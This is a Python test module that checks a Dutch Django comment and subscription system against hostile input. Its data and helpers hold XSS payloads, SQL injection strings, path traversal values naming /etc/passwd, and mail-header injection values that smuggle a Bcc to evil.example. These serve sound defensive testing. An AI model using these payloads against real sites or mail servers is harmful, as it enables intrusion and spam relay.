    for kind in LINK_KINDS
    # A validly signed manage link for an address without subscriptions is simply empty.
    if not (endpoint == "manage" and kind == "deleted-subscription")
]

CSRF_CASES = [
    pytest.param("comment-no-token", id="csrf-comment-no-token"),
    pytest.param("comment-wrong-token", id="csrf-comment-wrong-token"),
    pytest.param("comment-other-visitors-token", id="csrf-comment-other-visitors-token"),
    pytest.param("comment-no-cookie", id="csrf-comment-no-cookie"),
    pytest.param("follow-no-token", id="csrf-follow-no-token"),
    pytest.param("confirm-no-token", id="csrf-confirm-no-token"),
    pytest.param("manage-no-token", id="csrf-manage-no-token"),
]

# (name, e-mail) posted with "follow" ticked and a moderator: the mails must reach no one else.
MAIL_HEADER_CASES = [
    pytest.param(
        "Petra\u2028Bcc: slachtoffer@evil.example",
        "petra@example.nl",
        id="mail-name-line-separator",
    ),
    pytest.param(
        "=?utf-8?q?P=0D=0ABcc:_slachtoffer@evil.example?=",
        "petra@example.nl",
        id="mail-name-encoded-word",
    ),
    pytest.param("Petra", '"slachtoffer@evil.example,x"@example.nl', id="mail-email-quoted-comma"),
    pytest.param(
        "Petra", '"x\\"<slachtoffer@evil.example>"@example.nl', id="mail-email-quoted-angle"
    ),
    pytest.param(
        "Petra", '"\x0b\x0cBcc: slachtoffer@evil.example"@example.nl', id="mail-email-vertical-tab"
    ),
    pytest.param("Petra", '"<script>alert(1)</script>"@example.nl', id="mail-email-quoted-script"),
]

REQUEST_LIMIT_CASES = [
    pytest.param("comment-3-megabytes", id="limit-comment-3-megabytes"),
    pytest.param("1001-fields", id="limit-1001-fields"),
    pytest.param("broken-multipart", id="limit-broken-multipart"),
]

CORPUS = {
    "comment text": COMMENT_TEXT_CASES + RAW_COMMENT_CASES,
    "name": NAME_CASES,
    "website": WEBSITE_CASES,
    "e-mail": EMAIL_CASES,
    "parent": PARENT_CASES,
    "op querystring": OP_CASES,
    "parent on captcha refresh": REFRESH_PARENT_CASES,
    "parent on a rate-limited post": RATE_LIMITED_PARENT_CASES,
    "form token": TOKEN_CASES,
    "captcha": CAPTCHA_CASES,
    "redirects": REDIRECT_CASES,
    "subscription links": SUBSCRIPTION_LINK_CASES,
    "csrf": CSRF_CASES,
    "mail headers": MAIL_HEADER_CASES,
    "request limits": REQUEST_LIMIT_CASES,
}
CORPUS_SIZE = sum(len(cases) for cases in CORPUS.values())


def test_the_corpus_is_large_enough():
    assert CORPUS_SIZE >= 150, CORPUS_SIZE
    assert len(COMMENT_TEXT_CASES) + len(RAW_COMMENT_CASES) >= 100
    ids = [param.id for cases in CORPUS.values() for param in cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"


# --------------------------------------------------------------------------------------
# Fixtures and helpers
# --------------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def hostile_settings(settings):
    settings.COMMENTS_POST_RATE = "100000/m"
    settings.COMMENTS_MIN_FILL_SECONDS = 0
    settings.COMMENTS_BLOCKED_WORDS = []
    settings.COMMENTS_MAX_LINKS = 1000
    # Each test's new client builds WhiteNoise afresh; without autorefresh it would scan
    # every static file each time, which only costs time here.
    settings.WHITENOISE_AUTOREFRESH = True


@pytest.fixture
def form(comment_form, settings):
    """The conftest's form filler, with this module's limits (the conftest sets its own)."""
    settings.COMMENTS_POST_RATE = "100000/m"
    settings.COMMENTS_MIN_FILL_SECONDS = 0
    return comment_form


def text_of(response):
    return response.content.decode("utf-8", errors="replace")


def make_comment(article, **fields):
    fields.setdefault("user_name", "Jan")
    fields.setdefault("user_email", "jan@example.nl")
    fields.setdefault("comment", "Eerdere reactie.")
    return Comment.objects.create(
        content_type=ContentType.objects.get_for_model(article),
        object_pk=str(article.pk),
        site_id=django_settings.SITE_ID,
        submit_date=timezone.now(),
        **fields,
    )


def special_comment_id(value, seed_article, make_article):
    """Replace "@foreign", "@removed" and "@held" by the id of such a comment."""
    if value == "@foreign":
        return str(make_comment(make_article(), comment="Elders.").pk)
    if value == "@removed":
        return str(make_comment(seed_article, is_removed=True).pk)
    if value == "@held":
        return str(make_comment(seed_article, is_public=False).pk)
    return value


@dataclass
class Posted:
    comment: Comment
    html: str  # the article page after posting ("" when the comment is held)


def assert_posted_and_inert(client, article, data, response, before, *, reply_page=False):
    """The comment was stored and everything that shows it is inert."""
    assert response.status_code == 302, text_of(response)[:3000]
    assert is_local_path(response["Location"]), response["Location"]
    assert Comment.objects.count() == before + 1
    comment = Comment.objects.latest("pk")
    assert_comment_html_is_inert(comment.comment_html)
    html = ""
    if comment.is_public:
        html = text_of(client.get(article.get_absolute_url()))
        page = assert_page_is_inert(html, needs_section=True)
        section = section_of(html)
        assert f'<li id="c{comment.pk}">' in section
        assert comment.comment_html in section
        assert page.section_html_events > 0
        # The e-mail address is never shown.
        if len(data.get("email", "")) > 5:
            assert data["email"].strip() not in html
            assert data["email"].strip() not in page.section_text
    if comment.is_public and reply_page:
        # The reply form page quotes the comment and names its author.
        reply = client.get(post_url(article), {"op": comment.pk})
        assert reply.status_code == 200
        assert_page_is_inert(text_of(reply))
        assert "Uw reactie op" in text_of(reply)
    return Posted(comment, html)


def assert_refused(response, before, message=None, *, data=None):
    """A clear refusal: a Dutch message in the re-shown form; no comment stored."""
    assert response.status_code in (200, 400, 403, 429), response.status_code
    assert Comment.objects.count() == before
    if response.status_code not in (200, 429):
        return
    html = text_of(response)
    page = assert_page_is_inert(html)
    assert NOT_POSTED in html
    if message is None:
        assert any(error in html for error in DUTCH_ERRORS), html
    else:
        assert message in html, html
    # The text comes back exactly as typed, escaped: nothing broke out of the textarea.
    if data is not None and "comment" in data:
        [textarea] = page.textareas
        assert textarea == "\n" + data["comment"]


def check_outcome(client, article, data, response, before, expect, *, reply_page=False):
    """Posted and inert, or refused in Dutch, as the case expects; the Posted or None."""
    if expect == ACCEPT or (expect == ANY and response.status_code == 302):
        return assert_posted_and_inert(
            client, article, data, response, before, reply_page=reply_page
        )
    assert_refused(response, before, None if expect == ANY else expect, data=data)
    return None


# --------------------------------------------------------------------------------------
# The checker itself
# --------------------------------------------------------------------------------------


def test_the_checker_passes_the_untouched_pages(client, seed_article):
    page = assert_page_is_inert(
        text_of(client.get(seed_article.get_absolute_url())), needs_section=True
    )
    assert len(page.scripts) == len(PAGE_SCRIPTS)
    assert page.user_links  # the seed comments carry links
    assert_page_is_inert(text_of(client.get(post_url(seed_article))))


@pytest.mark.parametrize(
    "snippet",
    [
        "<script>alert(1)</script>",
        '<img src="/x" onerror="alert(1)">',
        '<a href=" java&#x09;script:alert(1)" rel="nofollow ugc noopener">x</a>',
        '<a href="https://x.nl">no rel</a>',
        '<a href="DATA:text/html,x" rel="nofollow ugc noopener">x</a>',
        "<!-- x -->",
        "<svg></svg>",
        '<p style="color:red">x</p>',
        '<a class="comment__permalink" href="https://evil.example">x</a>',
        # Controls and ids that only the site may put in a comment.
        '<li><article><div><p><button form="waardevol" name="reactie" value="9">x</button>'
        "</p></div></article></li>",
        '<li><article><div><p><b id="n1">x</b></p></div></article></li>',
        # A reader's text ended early, so that what follows passes as the site's own.
        '<li><article><div><p>x</p></article></div><a href="/elders/">y</a></li>',
        "</ol>",
        "<iframe srcdoc='x'></iframe>",
    ],
)
def test_the_checker_catches_executable_markup(client, seed_article, snippet):
    html = text_of(client.get(seed_article.get_absolute_url()))
    hostile = html.replace('<ol class="comments">', f'<ol class="comments">{snippet}', 1)
    with pytest.raises(AssertionError):
        assert_page_is_inert(hostile, needs_section=True)


# --------------------------------------------------------------------------------------
# Comment text
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize(("text", "expect"), COMMENT_TEXT_CASES)
def test_hostile_comment_text(client, seed_article, form, text, expect):
    assert_comment_html_is_inert(render_comment_html(text))
    data = form(seed_article, comment=text)
    before = Comment.objects.count()
    response = client.post(post_url(seed_article), data)
    posted = check_outcome(client, seed_article, data, response, before, expect)
    if posted is not None and re.search(r"\{[{%#]", text):
        # Template syntax is shown as typed, never evaluated.
        shown = audit(section_of(posted.html)).section_text
        for marker in re.findall(r"\{[{%#]", text):
            assert marker in shown
        assert django_settings.SECRET_KEY not in posted.html


@pytest.mark.parametrize(("raw", "expect"), RAW_COMMENT_CASES)
def test_comment_text_that_is_not_valid_utf8(client, seed_article, form, raw, expect):
    data = form(seed_article)
    del data["comment"]
    body = urlencode(data) + "&comment=" + raw
    before = Comment.objects.count()
    response = client.post(
        post_url(seed_article), body, content_type="application/x-www-form-urlencoded"
    )
    check_outcome(client, seed_article, data, response, before, expect)


# --------------------------------------------------------------------------------------
# Name, website, e-mail
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "expect"), NAME_CASES)
def test_hostile_name(client, seed_article, form, name, expect):
    data = form(seed_article, name=name, url="https://petra.example.nl/")
    before = Comment.objects.count()
    response = client.post(post_url(seed_article), data)
    posted = check_outcome(client, seed_article, data, response, before, expect, reply_page=True)
    if posted is None and response.status_code == 200:
        # The re-shown form keeps the name inside its attribute.
        [field] = re.findall(r'<input type="text" name="name"[^>]*>', text_of(response))
        assert attributes_of(field).get("value", "") == name
    if posted is not None:
        assert posted.comment.user_name == name.strip()


@pytest.mark.parametrize(("url", "expect"), WEBSITE_CASES)
def test_hostile_website(client, seed_article, form, url, expect):
    data = form(seed_article, url=url)
    before = Comment.objects.count()
    response = client.post(post_url(seed_article), data)
    posted = check_outcome(client, seed_article, data, response, before, expect)
    if posted is not None:
        user_url = posted.comment.user_url
        assert url_as_browser_reads_it(user_url).startswith(("http:", "https:"))
        assert user_url in audit(section_of(posted.html)).user_links


@pytest.mark.parametrize(("email", "expect"), EMAIL_CASES)
def test_hostile_email(client, seed_article, form, email, expect):
    data = form(seed_article, email=email, followup="on")
    before = Comment.objects.count()
    subscriptions = Subscription.objects.count()
    response = client.post(post_url(seed_article), data)
    posted = check_outcome(client, seed_article, data, response, before, expect)
    if posted is None:
        assert Subscription.objects.count() == subscriptions


# --------------------------------------------------------------------------------------
# Hidden fields: parent and form token
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize(("parent", "expect"), PARENT_CASES)
def test_hostile_parent(client, seed_article, make_article, form, parent, expect):
    parent = special_comment_id(parent, seed_article, make_article)
    data = form(seed_article, parent=parent)
    before = Comment.objects.count()
    response = client.post(post_url(seed_article), data)
    posted = check_outcome(client, seed_article, data, response, before, expect)
    if posted is not None and posted.comment.parent_id != posted.comment.pk:
        parent_comment = Comment.objects.get(pk=posted.comment.parent_id)
        assert parent_comment.object_pk == str(seed_article.pk)
        assert parent_comment.is_visible


def assert_no_foreign_quote(html):
    """Another article's or a removed comment is never quoted."""
    assert "Elders." not in html
    assert "Eerdere reactie." not in html


@pytest.mark.parametrize(("op", "expect"), OP_CASES)
def test_hostile_op_querystring(client, seed_article, make_article, op, expect):
    op = special_comment_id(op, seed_article, make_article)
    page = client.get(post_url(seed_article), {"op": op})
    assert page.status_code == 200
    assert_page_is_inert(text_of(page))
    assert_no_foreign_quote(text_of(page))


@pytest.mark.parametrize(("parent", "expect"), REFRESH_PARENT_CASES)
def test_hostile_parent_on_captcha_refresh(
    client, seed_article, make_article, form, parent, expect
):
    """Without JavaScript, "new code" posts the form back with the hidden parent in it."""
    parent = special_comment_id(parent, seed_article, make_article)
    data = form(seed_article, parent=parent, nieuwe_code="1", comment="Bijna klaar.")
    before = Comment.objects.count()
    response = client.post(post_url(seed_article), data)
    assert response.status_code == 200
    assert Comment.objects.count() == before
    html = text_of(response)
    assert_page_is_inert(html)
    assert_no_foreign_quote(html)
    assert "Bijna klaar." in html


@pytest.mark.parametrize(("parent", "expect"), RATE_LIMITED_PARENT_CASES)
def test_hostile_parent_on_a_rate_limited_post(
    client, seed_article, make_article, form, settings, parent, expect
):
    parent = special_comment_id(parent, seed_article, make_article)
    data = form(seed_article, parent=parent, comment="Te snel.")
    settings.COMMENTS_POST_RATE = "1/m"
    before = Comment.objects.count()
    client.post(post_url(seed_article), dict(data, captcha_1="fout"))
    response = client.post(post_url(seed_article), data)
    assert response.status_code == 429
    assert Comment.objects.count() == before
    html = text_of(response)
    assert_page_is_inert(html)
    assert "U hebt in korte tijd te vaak geprobeerd een reactie te plaatsen." in html
    assert "Te snel." in html


def hostile_token(kind, article, make_article, valid):
    payload, signature = valid.split(":", 1)
    if kind == "tampered-signature":
        return valid[:-1] + ("A" if valid[-1] != "A" else "B")
    if kind == "tampered-payload":
        return ("A" if payload[0] != "A" else "B") + valid[1:]
    if kind == "truncated":
        return valid[: len(valid) // 2]
    if kind == "signature-only":
        return signature
    if kind == "empty":
        return ""
    if kind == "other-article":
        other = make_article()
        return signing.dumps(
            {"a": other.pk, "k": "x" * 24, "t": int(time.time())}, salt=FORM_TOKEN_SALT
        )
    if kind == "garbage":
        return "niet-een-formulier"
    if kind == "other-salt":
        return signing.dumps({"a": article.pk, "k": "x" * 24, "t": 0}, salt=CONFIRM.salt)
    if kind == "wrong-types":
        return signing.dumps({"a": article.pk, "k": 5, "t": "nu"}, salt=FORM_TOKEN_SALT)
    if kind == "list-payload":
        return signing.dumps([article.pk, "x", 0], salt=FORM_TOKEN_SALT)
    if kind == "huge":
        return "A" * 100_000 + ":" + signature
    if kind == "nul":
        return valid + "\x00"
    if kind == "sql":
        return "' OR '1'='1"
    raise AssertionError(kind)


@pytest.mark.parametrize(("kind", "expect"), TOKEN_CASES)
def test_hostile_form_token(client, seed_article, make_article, form, kind, expect):
    data = form(seed_article, comment="Ik blijf bewaard.")
    if kind == "missing":
        del data["form_token"]
    else:
        data["form_token"] = hostile_token(kind, seed_article, make_article, data["form_token"])
    before = Comment.objects.count()
    response = client.post(post_url(seed_article), data)
    assert_refused(response, before, expect, data=data)
    assert "Ik blijf bewaard." in text_of(response)


def test_a_replayed_form_token_posts_nothing_new(client, seed_article, form):
    """Reusing a token (with new text) finds the first comment; nothing new is stored."""
    data = form(seed_article, comment="Eerste versie.")
    assert client.post(post_url(seed_article), data).status_code == 302
    before = Comment.objects.count()
    response = client.post(post_url(seed_article), dict(data, comment="<script>alert(1)</script>"))
    assert response.status_code == 302
    assert is_local_path(response["Location"])
    assert Comment.objects.count() == before


# --------------------------------------------------------------------------------------
# Captcha
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize(("kind", "expect"), CAPTCHA_CASES)
def test_hostile_captcha(client, seed_article, form, kind, expect):
    data = form(seed_article)
    if kind == "replay":
        assert client.post(post_url(seed_article), data).status_code == 302
        data = dict(data, form_token=form(seed_article)["form_token"], name="Herhaling")
    elif kind == "wrong-hashkey":
        data["captcha_0"] = "0" * 40
    elif kind == "other-key":
        data["captcha_0"] = form(seed_article)["captcha_0"]
    elif kind == "missing-key":
        del data["captcha_0"]
    elif kind == "missing-answer":
        del data["captcha_1"]
    elif kind == "missing-both":
        del data["captcha_0"], data["captcha_1"]
    elif kind == "sql-key":
        data["captcha_0"] = "' OR '1'='1' --"
    elif kind == "traversal-key":
        data["captcha_0"] = "../../../../etc/passwd"
    elif kind == "huge-answer":
        data["captcha_1"] = data["captcha_1"] * 20_000
    elif kind == "nul-answer":
        data["captcha_1"] = data["captcha_1"] + "\x00"
    elif kind == "expired":
        CaptchaStore.objects.filter(hashkey=data["captcha_0"]).update(
            expiration=timezone.now() - datetime.timedelta(minutes=1)
        )
    elif kind == "passed":
        data["captcha_1"] = "passed"
    before = Comment.objects.count()
    response = client.post(post_url(seed_article), data)
    assert response.status_code != 302
    check_outcome(client, seed_article, data, response, before, expect)


# --------------------------------------------------------------------------------------
# Open redirects
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize(("request_parts", "expect"), REDIRECT_CASES)
def test_no_redirect_leaves_the_site(client, seed_article, form, request_parts, expect):
    query, extra_post, headers = request_parts
    headers = dict(headers)
    double = headers.pop("_double", None)
    data = dict(form(seed_article), **extra_post)
    url = post_url(seed_article) + "?" + urlencode(query)
    before = Comment.objects.count()
    responses = [client.post(url, data, headers=headers)]
    if double:
        responses.append(client.post(url, data, headers=headers))
    for response in responses:
        assert response.status_code == 302, text_of(response)[:2000]
        location = response["Location"]
        assert is_local_path(location), location
        assert "evil" not in location
        assert "\n" not in location and "\r" not in location
    assert Comment.objects.count() == before + 1
    assert_posted_and_inert(client, seed_article, data, responses[0], before)


# --------------------------------------------------------------------------------------
# Subscription links
# --------------------------------------------------------------------------------------


def link_token(endpoint, kind, subscription, monkeypatch):
    _segment, salt = LINK_ENDPOINTS[endpoint]
    payload = (
        {"e": subscription.email}
        if endpoint == "manage"
        else {"s": subscription.pk, "e": subscription.email}
    )
    valid = signing.dumps(payload, salt=salt)
    if kind == "garbage":
        return "dit-is-geen-link"
    if kind == "tampered-signature":
        return valid[:-1] + ("A" if valid[-1] != "A" else "B")
    if kind == "tampered-payload":
        return ("A" if valid[0] != "A" else "B") + valid[1:]
    if kind == "truncated":
        return valid[: len(valid) // 2]
    if kind == "expired":
        real_time = time.time
        with monkeypatch.context() as patch:
            patch.setattr(signing.time, "time", lambda: real_time() - 400 * 24 * 3600)
            return signing.dumps(payload, salt=salt)
    if kind == "other-purpose":
        others = [other for other in (CONFIRM.salt, MANAGE.salt, UNSUBSCRIBE.salt) if other != salt]
        return signing.dumps({"s": subscription.pk, "e": subscription.email}, salt=others[0])
    if kind == "deleted-subscription":
        Subscription.objects.filter(pk=subscription.pk).delete()
        return valid
    if kind == "list-payload":
        return signing.dumps([subscription.pk, subscription.email], salt=salt)
    if kind == "dot-dot":
        return ".."
    if kind == "traversal-encoded-slashes":
        return "../../../etc/passwd"
    if kind == "traversal-backslashes":
        return "..\\..\\windows\\win.ini"
    if kind == "nul":
        return "\x00"
    if kind == "sql":
        return "' OR '1'='1' --"
    if kind == "script":
        return "<script>alert(1)</script>"
    if kind == "svg-onload":
        return '"><svg onload=alert(1)>'
    if kind == "huge":
        return "A" * 10_000 + ":" + "B" * 43
    if kind == "overlong-utf8":
        return b"\xc0\xae\xc0\xae\xc0\xaf"
    if kind == "fake-timestamp":
        return "e30:1zzzzz:" + "x" * 43
    raise AssertionError(kind)


@pytest.mark.parametrize(("endpoint", "kind"), SUBSCRIPTION_LINK_CASES)
def test_hostile_subscription_link(client, seed_article, monkeypatch, endpoint, kind):
    confirmed = None if endpoint == "confirm" else timezone.now()
    subscription = Subscription.objects.create(
        email="volger@example.nl", article=seed_article, confirmed_at=confirmed
    )
    token = link_token(endpoint, kind, subscription, monkeypatch)
    segment, _salt = LINK_ENDPOINTS[endpoint]
    path = f"/abonnement/{segment}/{quote(token, safe='')}/"
    status, message = LINK_KINDS[kind]
    if endpoint == "unsubscribe" and kind == "deleted-subscription":
        # A genuine unsubscribe link whose subscription is gone: no mail comes any more.
        status, message = 200, "U ontvangt deze e-mails niet meer"
    post_data = {f"scope_{subscription.pk}": "none"}
    for response in (client.get(path), client.post(path, post_data)):
        assert response.status_code == status, text_of(response)[:2000]
        html = text_of(response)
        assert message in html
        assert_page_is_inert(html)
        assert "<script>alert(1)" not in html
        assert "<svg" not in html
    after = Subscription.objects.filter(pk=subscription.pk).first()
    if after is not None:
        assert after.confirmed_at == confirmed
        assert after.scope == Subscription.Scope.ALL


# --------------------------------------------------------------------------------------
# CSRF
# --------------------------------------------------------------------------------------


def fresh_form(client, article):
    html = text_of(client.get(post_url(article)))
    key = re.search(r'name="captcha_0" value="([^"]+)"', html).group(1)
    return {
        "name": "Petra de Vries",
        "email": "petra@example.nl",
        "url": "",
        "comment": "Zonder CSRF-token.",
        "form_token": re.search(r'name="form_token" value="([^"]+)"', html).group(1),
        "parent": "",
        "captcha_0": key,
        "captcha_1": CaptchaStore.objects.get(hashkey=key).response,
    }


@pytest.mark.parametrize("kind", CSRF_CASES)
def test_posts_without_a_valid_csrf_token_are_forbidden(seed_article, kind):
    browser = Client(enforce_csrf_checks=True)
    before = Comment.objects.count()
    subscription = Subscription.objects.create(
        email="volger@example.nl",
        article=seed_article,
        confirmed_at=None if kind == "confirm-no-token" else timezone.now(),
    )
    subscriptions = Subscription.objects.count()
    if kind.startswith("comment-"):
        data = fresh_form(browser, seed_article)
        if kind == "comment-wrong-token":
            data["csrfmiddlewaretoken"] = "x" * 64
        elif kind == "comment-other-visitors-token":
            other = Client(enforce_csrf_checks=True)
            html = text_of(other.get(post_url(seed_article)))
            data["csrfmiddlewaretoken"] = re.search(
                r'name="csrfmiddlewaretoken" value="([^"]+)"', html
            ).group(1)
        elif kind == "comment-no-cookie":
            html = text_of(browser.get(post_url(seed_article)))
            data["csrfmiddlewaretoken"] = re.search(
                r'name="csrfmiddlewaretoken" value="([^"]+)"', html
            ).group(1)
            browser.cookies.clear()
        response = browser.post(post_url(seed_article), data)
    elif kind == "follow-no-token":
        response = browser.post(
            reverse("comments:follow", args=[seed_article.pk]),
            {"email": "nieuw@example.nl", "captcha_0": "x", "captcha_1": "y"},
        )
    else:
        endpoint = kind.split("-")[0]
        segment, salt = LINK_ENDPOINTS[endpoint]
        payload = (
            {"e": subscription.email}
            if endpoint == "manage"
            else {"s": subscription.pk, "e": subscription.email}
        )
        path = f"/abonnement/{segment}/{signing.dumps(payload, salt=salt)}/"
        assert browser.get(path).status_code == 200
        response = browser.post(path, {f"scope_{subscription.pk}": "none"})
    assert response.status_code == 403
    assert "Uw formulier kon niet worden verstuurd" in text_of(response)
    assert Comment.objects.count() == before
    assert Subscription.objects.count() == subscriptions
    subscription.refresh_from_db()
    assert subscription.scope == Subscription.Scope.ALL
    assert (subscription.confirmed_at is None) == (kind == "confirm-no-token")


# --------------------------------------------------------------------------------------
# Mail headers
# --------------------------------------------------------------------------------------


@pytest.fixture
def envelope_sink(smtp_sink):
    """The test SMTP server; it also keeps each message's envelope recipients and bytes."""
    return smtp_sink


@pytest.mark.parametrize(("name", "email"), MAIL_HEADER_CASES)
def test_mail_headers_cannot_be_injected(
    client, seed_article, form, settings, envelope_sink, run_worker, name, email
):
    settings.COMMENTS_MODERATOR_EMAILS = ["moderator@example.nl"]
    data = form(seed_article, name=name, email=email, followup="on")
    before = Comment.objects.count()
    response = client.post(post_url(seed_article), data)
    posted = check_outcome(client, seed_article, data, response, before, ANY)
    run_worker()
    for recipient in envelope_sink.recipients:
        assert "evil.example" not in recipient.split("@")[-1], envelope_sink.recipients
    for raw in envelope_sink.raw:
        head = re.split(rb"\r?\n\r?\n", raw, maxsplit=1)[0]
        fields = [field.lower() for field in re.findall(rb"^([!-9;-~]+):", head, re.MULTILINE)]
        assert b"bcc" not in fields and b"cc" not in fields, head
        assert fields.count(b"to") == 1 and fields.count(b"subject") == 1, head
        assert b"\x0b" not in head and b"\x0c" not in head, head
    if posted is not None:
        assert "moderator@example.nl" in envelope_sink.recipients
    # A quoted local part may mention evil.example; the domain that receives it may not.
    for mail in OutgoingMail.objects.all():
        assert mail.to.rsplit("@", 1)[-1] != "evil.example", mail.to


# --------------------------------------------------------------------------------------
# Request limits
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", REQUEST_LIMIT_CASES)
def test_oversized_and_broken_requests_are_refused(client, seed_article, form, kind):
    data = form(seed_article)
    before = Comment.objects.count()
    if kind == "comment-3-megabytes":
        response = client.post(post_url(seed_article), dict(data, comment="<b>" * 1_000_000))
    elif kind == "1001-fields":
        body = urlencode(data) + "".join(f"&veld{i}=x" for i in range(1001))
        response = client.post(
            post_url(seed_article), body, content_type="application/x-www-form-urlencoded"
        )
    else:
        response = client.post(
            post_url(seed_article),
            b'--grens\r\nContent-Disposition: form-data; name="comment"\r\n\r\n<script>',
            content_type="multipart/form-data; boundary=grens",
        )
    if kind == "broken-multipart":
        # Django reads what it can; the form then misses its fields.
        assert_refused(response, before)
    else:
        assert response.status_code == 400, response.status_code
    assert Comment.objects.count() == before
